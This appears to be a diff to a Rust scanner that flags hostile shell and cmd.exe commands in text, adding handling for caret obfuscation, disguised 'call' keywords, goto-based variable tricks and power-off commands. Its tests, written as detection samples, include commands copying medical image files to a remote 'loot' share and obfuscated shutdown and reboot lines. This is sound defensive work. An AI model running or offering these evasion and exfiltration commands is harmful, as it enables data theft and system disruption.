@@ -1029,13 +1029,38 @@ fn cmd_runs(line: &[u8], chance_bytes: bool) -> bool {
                 // Not glued to a letter (`/c mimikatz`, `/c"x"`, `/c,x`): a command
                 // line's form, never prose's (`CMD /CBD`).
                 let apart = part.get(1).is_none_or(|&b| is_switch_separator(b));
-                return runs_command(command, chance_bytes)
-                    || (apart && hands_a_plain_name(command, chance_bytes, NameRule::Cmd));
+                let runs = |command: &[u8]| {
+                    runs_command(command, chance_bytes)
+                        || (apart && hands_a_plain_name(command, chance_bytes, NameRule::Cmd))
+                };
+                return runs(command) || inner_command_line(command).is_some_and(|c| runs(&c));
             }
             from += part.len() + 1;
         }
     }
     stdin_from_file(line, chance_bytes)
+}
+
+/// The command line the inner cmd.exe runs when `command` (what follows `/c` or `/k`,
+/// carets outside quotes already dropped by the outer one) opens with a quote holding a
+/// caret: it strips the first and the last quote, then reads the line again and drops
+/// the carets now outside quotes (review rv43-screen, case4: `cmd /c "s^hutdown /r /t
+/// 0"` runs `shutdown /r /t 0` and was clean). `None` when the line reads the same.
+/// The separators before the quote are kept ([`hands_a_plain_name`] asks for one). The
+/// copy is bounded as the line is ([`without_carets`]: [`CMD_LINE_LIMIT`]).
+fn inner_command_line(command: &[u8]) -> Option<Vec<u8>> {
+    let open = command
+        .iter()
+        .position(|&b| !is_switch_separator(b) || b == b'"')?;
+    if command[open] != b'"' || !command[open..].contains(&b'^') {
+        return None;
+    }
+    let close = open + 1 + command[open + 1..].iter().rposition(|&b| b == b'"')?;
+    let mut inner = command[..open].to_vec();
+    inner.extend_from_slice(&without_carets(
+        &[&command[open + 1..close], &command[close + 1..]].concat(),
+    ));
+    Some(inner)
 }
 
 /// Whether `b` parts a switch of cmd.exe's from what follows it as a blank does: cmd.exe
@@ -6489,7 +6514,7 @@ fn program_start_and_set_command(line: &[u8]) -> ProgramStart {
                 .unwrap_or(line.len() - at);
         let word = &line[at..word_end];
         let command = || &line[..at + command_len(&line[at..])];
-        if word.eq_ignore_ascii_case(b"call") {
+        if is_call_word(word) {
             at = word_end;
         } else if word.eq_ignore_ascii_case(b"if") {
             // A condition cmd.exe cannot read is a syntax error: nothing runs.
@@ -6923,6 +6948,9 @@ struct Variables {
     /// The most values one variable looked up on the current line has in the file
     /// beside the one taken (0: none; its `set` commands counted).
     alternatives: usize,
+    /// Whether the file jumps ([`may_jump`]), once looked at: one walk of the bytes per
+    /// search, not one per name looked up.
+    jumps: Option<bool>,
 }
 
 /// Values of one variable tried on a line beside the last set before it: cmd.exe runs a
@@ -6944,6 +6972,11 @@ pub const MAX_VARIABLE_VALUES_TRIED: usize = 8;
 pub const MAX_EXPANDED_BYTES: usize = 1 << 20;
 
 impl Variables {
+    /// [`may_jump`] of the file, walked once.
+    fn jumps(&mut self, bytes: &[u8]) -> bool {
+        *self.jumps.get_or_insert_with(|| may_jump(bytes))
+    }
+
     /// Charges `n` bytes of expansion: `false` once [`MAX_EXPANDED_BYTES`] is reached.
     fn charge(&mut self, n: usize) -> bool {
         if self.expanded.saturating_add(n) > MAX_EXPANDED_BYTES {
@@ -7043,7 +7076,10 @@ impl Variables {
             .iter()
             .map(|(name, value)| (name.clone(), value.clone()))
             .collect();
+        // The values as written, of those built from others ([`Variables::add_built_variants`]).
+        let mut raw: Vec<Option<Vec<u8>>> = Vec::with_capacity(self.set.len());
         for k in 0..self.set.len() {
+            raw.push(None);
             let built = match &self.set[k].2 {
                 Some(value) if memchr::memchr(b'%', value).is_some() && !self.spent => {
                     Some(expand_set_value(value, &latest))
@@ -7053,14 +7089,121 @@ impl Variables {
             if let Some(built) = built
                 && self.charge(built.len())
             {
-                self.set[k].2 = Some(built);
+                raw[k] = self.set[k].2.replace(built);
             }
             latest.insert(self.set[k].1.clone(), self.set[k].2.clone());
+        }
+        // Read top to bottom, a value is built once, from the values set above it.
+        if self.jumps(bytes) {
+            self.add_built_variants(&raw);
         }
         for (i, (_, name, _)) in self.set.iter().enumerate() {
             self.by_name.entry(name.clone()).or_default().push(i);
         }
     }
+
+    /// A value built from other variables (`set s=%t%`) takes theirs as the `set` line
+    /// runs, and a `goto` may run it after any `set` of them (review rv43-screen, case2:
+    /// `set s=%t%` with `t` set after a `goto` was expanded with `t` unset only). Beside
+    /// the value built in file order, the value built with the `k`-th value of each
+    /// variable it names is kept as another `set` of the name at the same place (before
+    /// it, so a look-up in file order still takes the value built in file order), for
+    /// `k` up to [`MAX_VARIABLE_VALUES_TRIED`]: [`command_at_each_value`] tries them as it
+    /// tries a name set twice, and says when a name has more values than it tries. In
+    /// file order, so a chain (`set t=%u%`, `set s=%t%`) takes the values built before
+    /// it. Each value built is charged to [`MAX_EXPANDED_BYTES`]; a name keeps at most
+    /// one value more than are tried (enough for the warning), so the `set` commands
+    /// grow by at most that many per name.
+    fn add_built_variants(&mut self, raw: &[Option<Vec<u8>>]) {
+        use std::collections::HashMap;
+        let mut values: HashMap<Vec<u8>, Vec<Vec<u8>>> = HashMap::new();
+        for (_, name, value) in &self.set {
+            if let Some(value) = value {
+                values.entry(name.clone()).or_default().push(value.clone());
+            }
+        }
+        let mut variants: Vec<(usize, Vec<u8>, Option<Vec<u8>>)> = Vec::new();
+        for (k, raw) in raw.iter().enumerate() {
+            let Some(raw) = raw else { continue };
+            let (offset, name) = (self.set[k].0, self.set[k].1.clone());
+            let named = referenced_names(raw);
+            // Only a name set more than once, or after this line, brings another value.
+            let most = named
+                .iter()
+                .map(|n| values.get(n).map_or(0, Vec::len))
+                .max()
+                .unwrap_or(0);
+            for choice in 0..most.min(MAX_VARIABLE_VALUES_TRIED) {
+                if values.get(&name).map_or(0, Vec::len) > MAX_VARIABLE_VALUES_TRIED || self.spent {
+                    break;
+                }
+                let chosen: HashMap<Vec<u8>, Option<Vec<u8>>> = named
+                    .iter()
+                    .filter_map(|n| {
+                        let all = values.get(n)?;
+                        let value = all.get(choice).or_else(|| all.last())?;
+                        Some((n.clone(), Some(value.clone())))
+                    })
+                    .collect();
+                let built = expand_set_value(raw, &chosen);
+                if !self.charge(built.len()) {
+                    break;
+                }
+                let known = values.entry(name.clone()).or_default();
+                if !known.contains(&built) {
+                    known.push(built.clone());
+                    variants.push((offset, name.clone(), Some(built)));
+                }
+            }
+        }
+        if variants.is_empty() {
+            return;
+        }
+        // Before the value built in file order at the same place (a stable sort).
+        variants.append(&mut self.set);
+        variants.sort_by_key(|(offset, _, _)| *offset);
+        self.set = variants;
+    }
+}
+
+/// Whether `bytes` hold a `goto` or a `call :label` (any case): only then can a line run
+/// after a `set` written below it or before the last `set` above it.
+fn may_jump(bytes: &[u8]) -> bool {
+    memchr::memchr3_iter(b'g', b'G', b':', bytes).any(|at| match bytes[at] {
+        b':' => bytes[..at]
+            .iter()
+            .rev()
+            .skip_while(|&&b| is_token_delimiter(b))
+            .take(4)
+            .map(u8::to_ascii_lowercase)
+            .eq(b"llac".iter().copied()),
+        _ => bytes
+            .get(at..at + 4)
+            .is_some_and(|word| word.eq_ignore_ascii_case(b"goto")),
+    })
+}
+
+/// The names (lower case) of the variables `%NAME%` in `value` refers to, each once.
+fn referenced_names(value: &[u8]) -> Vec<Vec<u8>> {
+    let mut names: Vec<Vec<u8>> = Vec::new();
+    let mut i = 0;
+    while let Some(found) = value.get(i..).and_then(|rest| memchr::memchr(b'%', rest)) {
+        let open = i + found;
+        let Some(close) = memchr::memchr(b'%', &value[open + 1..]).map(|n| open + 1 + n) else {
+            break;
+        };
+        let name = &value[open + 1..close];
+        if is_variable_name(name) {
+            let lower = name.to_ascii_lowercase();
+            if !names.contains(&lower) {
+                names.push(lower);
+            }
+            i = close + 1;
+        } else {
+            i = close;
+        }
+    }
+    names
 }
 
 enum Lookup<'v> {
@@ -7166,7 +7309,34 @@ struct ExpandedArguments {
 fn is_called(before: &[u8]) -> bool {
     before
         .split(|&b| is_token_delimiter(b) || matches!(b, b'@' | b'(' | b'\r'))
-        .any(|word| word.eq_ignore_ascii_case(b"call"))
+        .any(is_call_word)
+}
+
+/// Whether `word` is the keyword `call` as cmd.exe recognises it: carets outside quotes
+/// are removed first, so `c^a^l^l` is `call` (review rv43-screen, case3:
+/// `c^a^l^l copy C:\PACS\*.dcm \\host\loot` was clean). A quote makes it a
+/// program's name, never the keyword; a caret escapes the byte after it (`^^` is a
+/// caret, so `c^^all` is no `call`), and one at its end the delimiter after it, which
+/// makes the word longer than `call`.
+fn is_call_word(word: &[u8]) -> bool {
+    if word.contains(&b'"') {
+        return false;
+    }
+    let mut letters = Vec::with_capacity(4);
+    let mut bytes = word.iter();
+    while let Some(&b) = bytes.next() {
+        let letter = if b == b'^' {
+            bytes.next().copied()
+        } else {
+            Some(b)
+        };
+        // An escaped delimiter at the end, or more than four letters: no `call`.
+        match letter {
+            Some(letter) if letters.len() < 4 => letters.push(letter),
+            _ => return false,
+        }
+    }
+    letters.eq_ignore_ascii_case(b"call")
 }
 
 /// [`expand_arguments_pass`] as cmd.exe expands the line of a command: once, or for a
@@ -7515,6 +7685,15 @@ fn expand_program_name(
             continue; // no variable a file sets: nothing, in a batch file
         }
         let name = body.to_ascii_lowercase();
+        // A `goto` may run the line after any `set` of the name: each value is tried
+        // for the name as for the arguments ([`command_at_each_value`]; review
+        // rv43-screen, case1: `%c% C:\PACS\*.dcm \\h\loot` with `set c=copy` after a
+        // `goto`, or set twice, was read with the file-order value only).
+        // Only in a file that jumps: read top to bottom, `%p%` before `set p=…` is empty.
+        if variables.jumps(bytes) {
+            let others = variables.alternatives(bytes, &name, at);
+            variables.alternatives = variables.alternatives.max(others);
+        }
         match variables.at(bytes, &name, at) {
             // A value with `%` or `!` expanded when it was set (`set q=%p%shell`, `set
             // p=%%a` in a `for`): what it holds is known only when the file runs.
@@ -10673,6 +10852,98 @@ mod lolbin_tests {
         }
     }
 
+    /// Review rv43-screen (issue 10, case7 and case8, checked with dash and stand-ins):
+    /// a power command `find -exec` or `xargs` runs, and the other programs that power
+    /// the machine off or restart it (`loginctl`, `kexec -e`, `openrc-shutdown`, logind's
+    /// D-Bus method), were clean. Every power command is in one table,
+    /// `sh::POWER_COMMANDS`.
+    #[test]
+    fn every_power_command_and_what_runs_one_are_commands() {
+        for text in [
+            "find /etc/hostname -exec reboot \\;\n",
+            "find /etc/hostname -exec init 0 \\;\n",
+            "find /etc/hostname -exec shutdown now \\;\n",
+            "find . -execdir halt ';'\n",
+            "echo | xargs reboot\n",
+            "loginctl poweroff\n",
+            "loginctl reboot\n",
+            "kexec -e\n",
+            "openrc-shutdown -p now\n",
+            "openrc-shutdown --reboot now\n",
+            "dbus-send --system --print-reply --dest=org.freedesktop.login1 /org/freedesktop/login1 org.freedesktop.login1.Manager.PowerOff boolean:true\n",
+            "systemctl poweroff\n",
+            "systemctl start poweroff.target\n",
+        ] {
+            let found = find_shell_command(text.as_bytes()).map(|found| found.severity);
+            assert_eq!(found, Some(Severity::Alert), "{text:?}");
+        }
+        for text in [
+            "find the reboot log\n",
+            "loginctl list-sessions\n",
+            "kexec -l /boot/vmlinuz\n",
+            "dbus-send --session org.example.Ping\n",
+            "find . -exec grep reboot {} \\;\n",
+        ] {
+            assert_eq!(find_shell_command(text.as_bytes()), None, "{text:?}");
+        }
+        // The table's strong names are judged by the strong rule: they must be there.
+        for (name, acts) in sh::POWER_COMMANDS {
+            assert!(
+                acts != sh::Acts::Strong || is_strong(name),
+                "{}",
+                String::from_utf8_lossy(name)
+            );
+        }
+    }
+
+    /// Review rv43-screen (issue 10, case6, checked with dash): an operand that expands
+    /// to nothing is no operand once expanded, so the power command runs bare
+    /// (`reboot $NOPE` reboots). A word that is only expansions may be empty: the
+    /// command counts.
+    #[test]
+    fn power_commands_with_an_operand_that_may_expand_to_nothing_are_commands() {
+        for text in [
+            "reboot $NOPE\n",
+            "reboot \"$@\"\n",
+            "reboot $(true)\n",
+            "halt ${X:-}\n",
+            "x=; halt $x; echo\n",
+            "reboot `true`\n",
+        ] {
+            let found = find_shell_command(text.as_bytes()).map(|found| found.severity);
+            assert_eq!(found, Some(Severity::Alert), "{text:?}");
+        }
+        for text in [
+            "reboot x$NOPE\n",
+            "halt the ${X} infusion\n",
+            "the cost of a reboot $5\n",
+        ] {
+            assert_eq!(find_shell_command(text.as_bytes()), None, "{text:?}");
+        }
+    }
+
+    /// Review rv43-screen (issue 10, case5, checked with dash): a runlevel or time made
+    /// of expansions (`L=0; init $L`, `init $((3-3))`, `T=now; shutdown $T`) may be one
+    /// that acts: the command counts.
+    #[test]
+    fn a_runlevel_or_time_made_of_expansions_counts() {
+        for text in [
+            "L=0; init $L\n",
+            "L=0; init ${L}\n",
+            "R=6\ntelinit \"$R\"\n",
+            "init $((3-3))\n",
+            "init $(echo 0)\n",
+            "T=now; shutdown $T\n",
+            "z() { init $1; }\nz 0\n",
+        ] {
+            let found = find_shell_command(text.as_bytes()).map(|found| found.severity);
+            assert_eq!(found, Some(Severity::Alert), "{text:?}");
+        }
+        for text in ["init $L mg\n", "Init $L\n", "init x$L\n"] {
+            assert_eq!(find_shell_command(text.as_bytes()), None, "{text:?}");
+        }
+    }
+
     /// Review of session 41 (issue 10, item 1): variable tricks cmd.exe expands from the
     /// file's own `set` commands were clean: delayed expansion (`!s!`), a substring
     /// (`%s:~0%`, `%s:~0,20%`), a replacement (`%s:x=l%`), a value set from another
@@ -10696,6 +10967,40 @@ mod lolbin_tests {
         assert_eq!(edited(b"abcdef", b"~1,-1"), Some(b"bcde".to_vec()));
         assert_eq!(edited(b"abcAbc", b"a=x"), Some(b"xbcxbc".to_vec()));
         assert_eq!(edited(b"abcdef", b"*c=Z"), Some(b"Zdef".to_vec()));
+    }
+
+    /// Review rv43-screen (issue 10, case1 and case2): a `goto` runs a line after any of
+    /// a variable's `set` commands. The values tried for arguments were not tried for a
+    /// program's name (`%c%` with `set c=copy` after a `goto`, or set twice), nor for a
+    /// value set from another variable set after it (`set s=%t%`, `t` set after a
+    /// `goto`).
+    #[test]
+    fn every_value_of_a_variable_is_tried_for_names_and_values_built_from_it() {
+        assert_alerts(
+            &[
+                "goto a\r\n:b\r\n%c% C:\\PACS\\*.dcm \\\\198.51.100.7\\loot\r\ngoto :eof\r\n:a\r\nset c=copy\r\ngoto b",
+                "set c=echo\r\ngoto a\r\n:b\r\n%c% /r /t 0\r\ngoto :eof\r\n:a\r\nset c=shutdown\r\ngoto b",
+                "goto a\r\n:b\r\nset s=%t%\r\ncopy C:\\PACS\\*.dcm %s%\r\ngoto :eof\r\n:a\r\nset t=\\\\198.51.100.7\\loot\r\ngoto b",
+                "set u=C:\\x\r\ngoto a\r\n:b\r\nset t=%u%\r\nset s=%t%\r\ncopy C:\\PACS\\*.dcm %s%\r\ngoto :eof\r\n:a\r\nset u=\\\\198.51.100.7\\loot\r\ngoto b",
+            ],
+            &[false, true],
+        );
+        assert_clean(&[
+            "set c=echo\r\n%c% /r /t 0\r\nset c=type\r\n%c% a.txt",
+            "set t=C:\\x\r\nset s=%t%\r\ncopy C:\\PACS\\*.dcm %s%\r\nset t=D:\\y",
+        ]);
+        // More values than are tried: said, never silent.
+        let many: String = (0..=MAX_VARIABLE_VALUES_TRIED)
+            .map(|n| format!("set t=C:\\d{n}\r\n"))
+            .collect();
+        let line =
+            format!("goto a\r\n:b\r\nset s=%t%\r\ncopy C:\\PACS\\*.dcm %s%\r\n:a\r\n{many}goto b");
+        let found = found(line.as_bytes(), false).expect("a warning");
+        assert!(
+            found.detail.contains("MAX_VARIABLE_VALUES_TRIED"),
+            "{}",
+            found.detail
+        );
     }
 
     /// Review of session 41 (issue 10, item 1): a program named by a variable had its
@@ -11091,5 +11396,40 @@ mod lolbin_tests {
                 || ARGUED_BATCH.contains(&tool);
             assert!(ruled, "{}", String::from_utf8_lossy(tool));
         }
+    }
+
+    /// Review rv43-screen (issue 10, case3): cmd.exe removes carets outside quotes
+    /// before it recognises `call`, so `c^a^l^l copy …` calls `copy`.
+    #[test]
+    fn carets_in_call_are_removed_before_it_is_recognised() {
+        assert_alerts(
+            &[
+                "c^a^l^l copy C:\\PACS\\*.dcm \\\\198.51.100.7\\loot",
+                "c^all shutdown /r /t 0",
+                "@c^all copy C:\\PACS\\*.dcm \\\\198.51.100.7\\loot",
+                "if 1==1 c^all copy C:\\PACS\\*.dcm \\\\198.51.100.7\\loot",
+                "call shutdown /r /t 0",
+            ],
+            &[false, true],
+        );
+        assert_clean(&["c^all the ward", "\"c^all\" copy a b", "c^^all copy a b"]);
+    }
+
+    /// Review rv43-screen (issue 10, case4): the command line given to `cmd /c` or `/k`
+    /// in quotes is read again by the inner cmd.exe, which strips the quotes, then
+    /// removes the carets: `cmd /c "s^hutdown /r /t 0"` runs `shutdown /r /t 0`.
+    #[test]
+    fn carets_inside_the_quotes_given_to_cmd_are_removed_by_the_inner_cmd() {
+        assert_alerts(
+            &[
+                "cmd /c \"s^hutdown /r /t 0\"",
+                "cmd /k \"s^hutdown /r /t 0\"",
+                "cmd /c \"c^o^p^y C:\\PACS\\*.dcm \\\\198.51.100.7\\loot\"",
+                "cmd /c \"shutdown /r /t 0\"",
+                "cmd /c \"copy C:\\PACS\\*.dcm \\\\198.51.100.7\\loot\"",
+            ],
+            &[false, true],
+        );
+        assert_clean(&["cmd /c \"e^cho normal\"", "CMD /C \"E^CHO^ normal\""]);
     }
 }
